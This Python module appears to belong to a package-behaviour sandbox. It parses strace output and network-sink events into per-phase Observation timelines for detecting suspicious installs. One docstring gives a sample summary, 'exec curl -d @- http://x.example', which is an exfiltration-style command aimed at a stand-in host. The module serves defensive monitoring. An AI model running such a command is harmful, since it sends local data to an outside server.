"""What the sandbox saw, as data: one `Observation` per event, ordered into a per-phase timeline."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any, Mapping

SYSCALLS = "clone,clone3,fork,vfork,execve,open,openat,connect,sendto,unlink,unlinkat,rename,renameat,renameat2,chmod,fchmodat,symlink,symlinkat"


@dataclass(frozen=True)
class Observation:
    """One thing that happened in the sandbox."""

    phase: str
    """`install`, `load` or `execute`."""
    ts: float
    """Unix time (seconds) it happened."""
    kind: str
    """`exec`, `open`, `write`, `connect`, `delete`, `rename`, `chmod`, `dns`, `http`, `tls`, `tcp`."""
    pid: int | None
    """The process (inside the sandbox's pid namespace); None for sink events."""
    summary: str
    """One line for the timeline (`exec curl -d @- http://x.example`)."""
    data: Mapping[str, Any] = field(default_factory=dict)
    """Kind-specific fields: argv, path, flags, address, port, result, name, host, body, ..."""

    def to_dict(self) -> dict[str, Any]:
        return {"phase": self.phase, "ts": round(self.ts, 3), "kind": self.kind, "pid": self.pid,
                "summary": self.summary, **({"data": dict(self.data)} if self.data else {})}


@dataclass(frozen=True)
class PhaseResult:
    """How one phase ended."""

    name: str
    start: float
    end: float
    exit_code: int | None
    timed_out: bool
    output: str
    """Its stdout+stderr, capped."""
    root_pid: int | None = None
    """The first process strace saw (npm itself in the install phase)."""
    killed: tuple[str, ...] = ()
    """Names of the processes still alive at the end of the phase, which the supervisor killed."""


_LINE = re.compile(r"^(\d+)\s+(\d+\.\d+)\s+(\w+)\((.*)\)\s+=\s+(-?\d+|\?)(?:\s+(\w+))?")
_RESUMED = re.compile(r"^(\d+)\s+(\d+\.\d+)\s+<\.\.\. (\w+) resumed>(.*)$")
_UNFINISHED = re.compile(r"^(\d+)\s+(\d+\.\d+)\s+(\w+)\((.*) <unfinished \.\.\.>$")
_STR = re.compile(r'"((?:[^"\\]|\\.)*)"')


def _unescape(text: str) -> str:
    return text.encode("latin-1", "backslashreplace").decode("unicode_escape", "replace")


def strace_events(text: str) -> list[tuple[int, float, str, str, str, str]]:
    """(pid, ts, syscall, args, result, errno) per completed call, joining unfinished/resumed halves."""
    pending: dict[int, tuple[str, str]] = {}
    out = []
    for line in text.splitlines():
        m = _UNFINISHED.match(line)
        if m:
            pending[int(m[1])] = (m[3], m[4])
            continue
        m = _RESUMED.match(line)
        if m and int(m[1]) in pending:
            name, head = pending.pop(int(m[1]))
            line = f"{m[1]} {m[2]} {name}({head}{m[4]}"
        m = _LINE.match(line)
        if m:
            out.append((int(m[1]), float(m[2]), m[3], m[4], m[5], m[6] or ""))
    return out


def parse_strace(phase: str, text: str) -> tuple[list[Observation], int | None]:
    """Observations from one phase's strace log, and the root pid (first process seen)."""
    obs: list[Observation] = []
    root = None
    leader: dict[int, int] = {}
    """thread id -> its process (thread group leader): events are attributed to processes."""
    for tid, ts, call, args, result, errno in strace_events(text):
        root = tid if root is None else root
        pid = leader.setdefault(tid, tid)
        if call in ("clone", "clone3", "fork", "vfork"):
            if result.isdigit():
                leader[int(result)] = pid if "CLONE_THREAD" in args else int(result)
            continue
        ok = result not in ("?",) and not result.startswith("-")
        strings = [_unescape(s) for s in _STR.findall(args)]
        if call == "execve":
            if not ok:
                continue
            argv = strings[1:] if len(strings) > 1 else strings
            obs.append(Observation(phase, ts, "exec", pid, "exec " + " ".join(argv)[:300],
                                   {"path": strings[0] if strings else "", "argv": argv}))
        elif call in ("open", "openat") and strings:
            write = any(f in args for f in ("O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC", "O_APPEND"))
            kind = "write" if write else "open"
            obs.append(Observation(phase, ts, kind, pid, f"{kind} {strings[0]}" + ("" if ok else f" ({errno})"),
                                   {"path": strings[0], "ok": ok, "errno": errno}))
        elif call == "connect":
            addr = re.search(r'sin6?_addr=inet_pton\(AF_INET6?, "([^"]+)"\)|inet_addr\("([^"]+)"\)', args)
            port = re.search(r"sin6?_port=htons\((\d+)\)", args)
            unix = re.search(r'sun_path="([^"]*)"', args)
            if unix:
                continue  # local IPC (nscd, dbus): not network
            if not addr:
                continue
            host = addr[1] or addr[2]
            target = f"{host}:{port[1] if port else '?'}"
            ok = ok or errno == "EINPROGRESS"
            obs.append(Observation(phase, ts, "connect", pid, f"connect {target}" + ("" if ok else f" ({errno})"),
                                   {"address": host, "port": int(port[1]) if port else None, "ok": ok, "errno": errno}))
        elif call in ("unlink", "unlinkat") and strings and ok:
            obs.append(Observation(phase, ts, "delete", pid, f"delete {strings[-1]}", {"path": strings[-1]}))
        elif call.startswith("rename") and len(strings) >= 2 and ok:
            obs.append(Observation(phase, ts, "rename", pid, f"rename {strings[0]} -> {strings[1]}",
                                   {"path": strings[1], "from": strings[0]}))
        elif call in ("chmod", "fchmodat") and strings and ok:
            obs.append(Observation(phase, ts, "chmod", pid, f"chmod {strings[-1]}", {"path": strings[-1]}))
        elif call.startswith("symlink") and len(strings) >= 2 and ok:
            obs.append(Observation(phase, ts, "write", pid, f"symlink {strings[-1]} -> {strings[0]}",
                                   {"path": strings[-1], "ok": True}))
    return obs, root


def sink_observation(phase: str, event: Mapping[str, Any]) -> Observation:
    kind = event["kind"]
    if kind == "dns":
        summary = f"dns query {event.get('name')} ({event.get('qtype')})"
    elif kind == "http":
        summary = f"http {event.get('method')} {event.get('host')}{event.get('path')} ({len(event.get('body') or '')} bytes body)"
    elif kind == "tls":
        summary = f"tls client hello to {event.get('sni')} on port {event.get('port')}"
    else:
        summary = f"{kind} on port {event.get('port')}: {len(event.get('data') or '')} bytes"
    data = {k: v for k, v in event.items() if k not in ("kind", "ts")}
    return Observation(phase, float(event["ts"]), kind, None, summary, data)
